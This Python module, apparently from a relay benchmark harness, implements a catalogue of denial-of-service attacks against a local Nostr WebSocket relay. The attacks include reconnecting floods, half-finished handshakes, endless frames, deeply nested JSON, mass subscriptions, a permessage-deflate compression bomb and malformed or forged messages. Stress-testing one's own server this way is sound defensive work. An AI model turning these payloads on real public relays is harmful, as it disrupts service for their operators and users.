"""Ways to abuse a relay, as an adversary who knows RFC 6455 and NIP-01 would.

An attack is what each of its connections does. `Flood` writes the same bytes over and over, as fast
as the relay reads them and a line of 400 Mbit/s carries them, and comes back when it is thrown out.
"""

from __future__ import annotations

import asyncio
import contextlib
import itertools
import json
import zlib
from collections.abc import AsyncIterator, Callable, Sequence
from dataclasses import dataclass
from functools import partial
from typing import Any

from bench.relay_wire import frame

_KEY = b"AAAAAAAAAAAAAAAAAAAAAA=="
_BACK_SECONDS = 0.02
_HOST = "127.0.0.1"
_WRITE = 64 * 1024
_BYTES_PER_SECOND = 50_000_000
"""Of all connections of an attack together."""


def handshake(extra: bytes = b"") -> bytes:
    """An upgrade request, with further header lines."""
    return (
        b"GET / HTTP/1.1\r\nHost: 127.0.0.1\r\nUpgrade: websocket\r\nConnection: Upgrade\r\n"
        b"Sec-WebSocket-Version: 13\r\nSec-WebSocket-Key: " + _KEY + b"\r\n" + extra + b"\r\n"
    )


OPEN = handshake()
DEFLATE = handshake(b"Sec-WebSocket-Extensions: permessage-deflate\r\n")


def raw_frame(head: int, payload: bytes) -> bytes:
    """A frame of a client with this first byte."""
    return bytes([head]) + frame(payload)[1:]


@dataclass(frozen=True, slots=True)
class Attack:
    """What `connections` connections do, each: write `once`, then `again` for ever. `reads` says
    whether they read what comes; `again` may be empty."""

    once: bytes
    again: bytes = b""
    connections: int = 8
    reads: bool = True


class Flood(asyncio.Protocol):
    """One connection of an attack."""

    def __init__(self, attack: Attack, lost: Callable[[], None]) -> None:
        self._attack = attack
        self._lost = lost
        self._ready = not attack.once.endswith(b"\r\n\r\n")
        size = len(attack.again)
        self._chunk = attack.again * max(1, _WRITE // size) if size else b""
        self._blocked = False
        self._waits = False
        self._transport: Any = None

    def connection_made(self, transport: Any) -> None:
        self._transport = transport
        transport.write(self._attack.once)
        if not self._attack.reads:
            transport.pause_reading()
            self._ready = True
        self._go_on()

    def data_received(self, data: bytes) -> None:
        if not self._ready:
            self._ready = True
            self._go_on()

    def pause_writing(self) -> None:
        self._blocked = True

    def resume_writing(self) -> None:
        self._blocked = False
        if not self._waits:
            self._go_on()

    def connection_lost(self, exc: Exception | None) -> None:
        self._lost()

    def _waited(self) -> None:
        self._waits = False
        self._go_on()

    def _go_on(self) -> None:
        if self._chunk and self._ready and not self._blocked and not self._transport.is_closing():
            self._transport.write(self._chunk)
            self._waits = True
            seconds = len(self._chunk) * self._attack.connections / _BYTES_PER_SECOND
            asyncio.get_running_loop().call_later(seconds, self._waited)


@contextlib.asynccontextmanager
async def attacking(port: int, attack: Attack) -> AsyncIterator[None]:
    """Attack while the block runs. Who is thrown out comes back at once."""
    loop = asyncio.get_running_loop()
    ended, transports = asyncio.Event(), dict[int, Any]()

    async def one(number: int) -> None:
        while not ended.is_set():
            lost = asyncio.Event()
            flood = Flood(attack, lost.set)
            try:
                transport, _ = await loop.create_connection(partial(_same, flood), _HOST, port)
            except OSError:
                await asyncio.sleep(_BACK_SECONDS)
                continue
            transports[number] = transport
            await lost.wait()
            await asyncio.sleep(_BACK_SECONDS)

    tasks = [asyncio.create_task(one(number)) for number in range(attack.connections)]
    try:
        yield
    finally:
        ended.set()
        for task in tasks:
            task.cancel()
        for transport in transports.values():
            transport.abort()


def _same(flood: Flood) -> Flood:
    return flood


def attacks(forged: Sequence[bytes], author: str) -> dict[str, Attack]:
    """All of them by name. `forged` are events with wrong signatures, `author` is somebody whose
    events nobody sends."""
    publish = b"".join(frame(b'["EVENT",' + event + b"]") for event in forged)
    deep = b'["EVENT",' + b"[" * 60_000
    nested = b'["REQ","deep",' + b'{"kinds":' * 10_000 + b"1" + b"}" * 10_000 + b"]"
    everything = frame(b'["REQ","all",{}]')
    subscriptions = b"".join(
        frame(f'["REQ","{number}",{{"authors":["{author}"],"#t":["{number}"]}}]'.encode())
        for number in range(1_000)
    )
    filters = json.dumps([{"kinds": [n], "limit": 500} for n in range(1, 33)])[1:-1]
    bomb = zlib.compressobj(9, wbits=-15)
    zeros = bomb.compress(bytes(32 << 20)) + bomb.flush(zlib.Z_SYNC_FLUSH)
    fragments = raw_frame(0x01, b"[") + raw_frame(0x00, b"") * 2_000
    return {
        "slow readers": Attack(OPEN + everything * 20, b"", 40, reads=False),
        "half a handshake": Attack(OPEN[:60], b"", 300),
        "nothing at all": Attack(b"", b"", 300),
        "a handshake without end": Attack(OPEN[:-2], b"X-More: " + b"x" * 90 + b"\r\n", 8),
        "frames of 1 MiB": Attack(OPEN, frame(b'["EVENT",{"content":"' + b"x" * (1 << 20))),
        "frames without end": Attack(
            OPEN, bytes([0x81, 0xFF]) + (1 << 62).to_bytes(8, "big") + bytes(99)
        ),
        "deep nesting": Attack(OPEN, frame(deep) + frame(nested)),
        "10,000 subscriptions": Attack(OPEN + subscriptions, b"", 10),
        "filters that match everything": Attack(OPEN, everything),
        "many filters": Attack(OPEN, frame(f'["REQ","many",{filters}]'.encode())),
        "counts of everything": Attack(OPEN, frame(b'["COUNT","all",{}]')),
        "invalid UTF-8": Attack(OPEN, frame(b'["REQ","\xff\xfe\xc0\x80",{}]')),
        "bytes": Attack(OPEN, raw_frame(0x82, b"\0" * 1_000)),
        "bad signatures": Attack(OPEN, publish, 4),
        "compressed bombs": Attack(DEFLATE, raw_frame(0xC1, zeros)),
        "pings": Attack(OPEN, raw_frame(0x89, b"x" * 125)),
        "fragments": Attack(OPEN, fragments + raw_frame(0x80, b"]")),
        "fragments without end": Attack(OPEN + raw_frame(0x01, b"["), raw_frame(0x00, b"x" * 500)),
        "reserved frames": Attack(OPEN, raw_frame(0x83, b"x")),
        "no JSON": Attack(OPEN, frame(b"x" * 100)),
        "other JSON": Attack(OPEN, b"".join(map(frame, _NO_MESSAGES))),
    }


_NO_MESSAGES = [
    json.dumps(value).encode()
    for value in itertools.chain(
        [1, None, {}, [], [[]], [{}], ["EVENT"], ["EVENT", 1], ["EVENT", {}], ["REQ"]],
        [["REQ", {}, {}], ["REQ", "a", 1], ["REQ", "a", {"kinds": [1e99]}], ["CLOSE", {}]],
        [["AUTH", {}], ["COUNT", 1, 1], ["NEG-OPEN", "a", {}, "zz"], ["NEG-MSG", "a", "61"]],
        [["REQ", "a", {"ids": ["x"]}], ["REQ", "a", {"#e": 7}], ["REQ", "a" * 1000, {}]],
    )
]
